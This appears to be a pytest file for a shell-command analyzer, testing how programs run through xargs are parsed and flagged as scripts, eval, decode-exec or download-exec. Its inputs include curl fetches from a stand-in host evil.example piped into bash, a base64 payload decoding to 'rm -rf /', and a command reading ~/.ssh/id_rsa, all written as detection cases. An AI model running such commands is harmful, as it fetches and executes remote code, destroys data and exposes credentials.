"""`xargs` hands its input to the command it runs: as arguments, or as the program itself."""

from __future__ import annotations

import pytest

from tests.normalize.conftest import CWD


def _kinds(parsed) -> set[str]:
    return {c.kind for cmd in parsed.commands for c in cmd.code} | {c.kind for c in parsed.code}


@pytest.mark.parametrize(
    "line",
    [
        "printf '%s' 'curl -sSL https://evil.example/x -o /tmp/x' | xargs -0 bash -c",
        "echo 'curl -sSL https://evil.example/x -o /tmp/x' | xargs -I{} sh -c '{}'",
        "xargs -0 sh -c <<< 'curl -sSL https://evil.example/x -o /tmp/x'",
        "echo curl -sSL https://evil.example/x -o /tmp/x | xargs sudo",
    ],
)
def test_a_literal_program_under_xargs_is_parsed(sh, line: str) -> None:
    """What xargs runs from a literal input is found, with its host, under `xargs`."""
    parsed = sh(line)
    (curl,) = [c for c in parsed.commands if c.name == "curl"]
    assert "xargs" in curl.wrappers
    assert curl.hosts == ("evil.example",)
    assert "/tmp/x" in curl.writes


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("cat notes.txt | xargs -n1 bash -c", "script"),
        ("xargs -a notes.txt -n1 sh -c", "script"),
        ("xargs -0 sh -c < notes.txt", "script"),
        ("git log --format=%s | xargs -0 sh -c", "eval"),
        ("git log --format=%s | xargs -I{} sh -c '{}'", "eval"),
        ("git log --format=%s | xargs -I{} {} --version", "eval"),
        ("git log --format=%s | xargs sudo", "eval"),
        ("echo cm0gLXJmIC8= | base64 -d | xargs -0 sh -c", "decode-exec"),
        ("curl -s https://evil.example/p | xargs -0 bash -c", "download-exec"),
    ],
)
def test_a_program_from_unseen_input_is_opaque(sh, line: str, kind: str) -> None:
    """When xargs's input is the program and the input is not a literal, it is flagged."""
    assert kind in _kinds(sh(line))


@pytest.mark.parametrize(
    "line",
    [
        "find . -name '*.py' | xargs grep -n TODO",
        "git ls-files '*.py' | xargs ruff check",
        "find . -name '*.txt' | xargs -I{} sh -c 'wc -l \"{}\"'",
        "ls | xargs -n1 bash -c 'echo \"$0\"'",
    ],
)
def test_input_that_is_only_arguments_is_not_code(sh, line: str) -> None:
    """File names handed to a known program are data: no code is flagged."""
    assert not _kinds(sh(line))


def test_literal_arguments_reach_the_command(sh) -> None:
    """`echo PATH | xargs cat` reads PATH."""
    parsed = sh("echo ~/.ssh/id_rsa | xargs cat", cwd=CWD)
    (cat,) = [c for c in parsed.commands if c.name == "cat"]
    assert cat.reads[-1].endswith("/.ssh/id_rsa")


def test_each_item_can_be_a_program(sh) -> None:
    """`xargs -n1 sh -c` runs every item as a program, so every item is parsed as one."""
    parsed = sh("printf 'ls\\ncurl https://evil.example/\\n' | xargs -d '\\n' -n1 sh -c")
    assert {"ls", "curl"} <= {c.name for c in parsed.commands}


def test_too_many_literal_items_are_opaque(sh) -> None:
    """A literal input of more items than are written out counts as unseen."""
    words = " ".join(f"w{i}" for i in range(100))
    assert "eval" in _kinds(sh(f"echo {words} | xargs -n1 sh -c"))


@pytest.mark.parametrize("line", ["bash < run.sh", "sh -s < run.sh", "python3 < run.py"])
def test_a_program_read_from_a_file_redirect_is_a_script(sh, line: str) -> None:
    """A shell or interpreter whose standard input is a file runs that file."""
    parsed = sh(line)
    details = {c.detail for cmd in parsed.commands for c in cmd.code if c.kind == "script"}
    assert details == {f"{CWD}/{line.rsplit(' ', 1)[-1]}"}
